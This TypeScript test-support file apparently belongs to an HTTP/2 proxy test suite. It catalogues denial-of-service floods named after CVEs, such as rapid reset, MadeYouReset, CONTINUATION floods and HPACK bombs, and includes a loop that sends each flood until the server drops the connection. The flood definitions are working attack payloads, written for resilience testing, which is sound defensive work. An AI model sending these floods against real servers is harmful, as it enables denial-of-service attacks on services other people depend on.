/** The floods of D10: what a client sends for as long as it is let, and how the proxy fared. */
import { block, continuation, data, FLAG, frame, headers, integer, ping, priority, request, rstStream, settings, TYPE, windowUpdate } from '../../support/http2/frames.ts'; // prettier-ignore
import type { RawHttp2 } from '../../support/http2/raw.ts';

export interface Flood {
  readonly name: string;
  readonly source: string;
  /** Sent once, before the flood. */
  readonly first?: readonly Buffer[];
  /** More requests than these do not reach the backend. */
  readonly requests?: number;
  /** The `n`th piece of it, from 0. */
  readonly piece: (n: number) => readonly Buffer[];
}

const POST = request('/flood', 'POST');
/** Stream identifiers of clients, from the third on. */
const id = (n: number): number => 2 * n + 3;

/** One entry of 4000 bytes in the dynamic table, then references to it. */
const BOMB_ENTRY = Buffer.concat([
  block(POST),
  Buffer.from([0x40]),
  integer(1, 7),
  Buffer.from('x'),
  integer(4000, 7),
  Buffer.alloc(4000, 'b'),
]);
const BOMB = Buffer.concat([block(POST), Buffer.alloc(4000, 0xbe)]);
/** The smallest field that there is, again and again: cookies, which are counted as one line. */
const CRUMBS = Buffer.concat([block(POST), Buffer.alloc(8000, 0xa0)]);

export const FLOODS: readonly Flood[] = [
  {
    name: 'rapid reset',
    source: 'CVE-2023-44487',
    // The reset comes with the request: nothing is begun, but where a read ends between the two.
    requests: 20,
    piece: (n) => [headers(id(n), request('/flood')), rstStream(id(n), 8)],
  },
  {
    name: 'rapid reset of uploads',
    source: 'CVE-2023-44487',
    piece: (n) => [headers(id(n), POST, false), data(id(n), 'x'), rstStream(id(n), 8)],
  },
  {
    name: 'MadeYouReset by WINDOW_UPDATE of 0',
    source: 'CVE-2025-8671',
    piece: (n) => [headers(id(n), POST, false), windowUpdate(id(n), 0)],
  },
  {
    name: 'MadeYouReset by a window that overflows',
    source: 'CVE-2025-8671',
    piece: (n) => [headers(id(n), POST, false), windowUpdate(id(n), 0x7fffffff)],
  },
  {
    name: 'MadeYouReset by a PRIORITY frame of the wrong size',
    source: 'CVE-2025-8671',
    piece: (n) => [headers(id(n), POST, false), frame(TYPE.priority, 0, id(n), Buffer.alloc(3))],
  },
  {
    name: 'MadeYouReset by DATA after the end',
    source: 'CVE-2025-8671',
    piece: (n) => [headers(id(n), request('/flood')), data(id(n), 'x')],
  },
  {
    name: 'CONTINUATION',
    source: 'CVE-2024-27983',
    first: [frame(TYPE.headers, FLAG.endStream, 1, block(request('/flood')))],
    piece: (n) => [continuation(1, block([[`x-${n}`, 'x'.repeat(1000)]]), false)],
  },
  {
    name: 'empty CONTINUATION',
    source: 'CVE-2024-27316',
    first: [frame(TYPE.headers, FLAG.endStream, 1, block(request('/flood')))],
    piece: () => [continuation(1, Buffer.alloc(0), false)],
  },
  {
    name: 'HPACK bomb',
    source: 'CVE-2026-47774',
    first: [frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, 1, BOMB_ENTRY)],
    piece: (n) => [frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, id(n), BOMB)],
  },
  {
    name: 'HPACK bomb of cookies, with a window of zero',
    source: 'CVE-2026-49975',
    first: [settings([4, 0])],
    piece: (n) => [frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, id(n), CRUMBS)],
  },
  { name: 'SETTINGS', source: 'CVE-2019-9515', piece: () => [settings([4, 65_535])] },
  { name: 'empty SETTINGS', source: 'CVE-2019-9515', piece: () => [settings()] },
  { name: 'PING', source: 'CVE-2019-9512', piece: () => [ping()] },
  { name: 'PRIORITY', source: 'CVE-2019-9513', piece: (n) => [priority(id(n % 100), 0)] },
  {
    name: 'empty DATA',
    source: 'CVE-2019-9518',
    first: [headers(1, POST, false)],
    piece: () => [data(1, '')],
  },
  {
    name: 'empty HEADERS',
    source: 'CVE-2019-9516',
    piece: (n) => [frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, id(n))],
  },
  {
    name: 'WINDOW_UPDATE',
    source: 'RFC 9113 §10.5',
    piece: () => [windowUpdate(0, 1)],
  },
  { name: 'unknown frames', source: 'RFC 9113 §10.5', piece: () => [frame(0xbb, 0, 0, Buffer.alloc(8))] },
  { name: 'streams beyond the limit', source: 'RFC 9113 §5.1.2', piece: (n) => [headers(id(n), POST, false)] },
];

/** Pieces that are sent in one write. */
const AT_ONCE = 100;

export interface FloodResult {
  /** Pieces that were sent before the connection closed. */
  readonly sent: number;
  /** From the first piece to the end of the connection, in milliseconds. */
  readonly took: number;
}

/** Sends a flood until the server closes the connection, or `pieces` are sent; then waits for the end. */
export async function flood(client: RawHttp2, { first = [], piece }: Flood, pieces: number): Promise<FloodResult> {
  const start = performance.now();
  client.send(...first);
  let sent = 0;
  while (sent < pieces && !client.closed) {
    client.send(...Array.from({ length: AT_ONCE }, (_, n) => piece(sent + n)).flat());
    sent += AT_ONCE;
    // Read in between, as an attacker would who keeps the connection usable.
    await new Promise(setImmediate);
    if (client.socket.writableNeedDrain && !client.closed)
      await new Promise<void>((resolve) => {
        client.socket.once('drain', resolve);
        client.socket.once('close', resolve);
      });
  }
  await client.gone();
  return { sent, took: performance.now() - start };
}
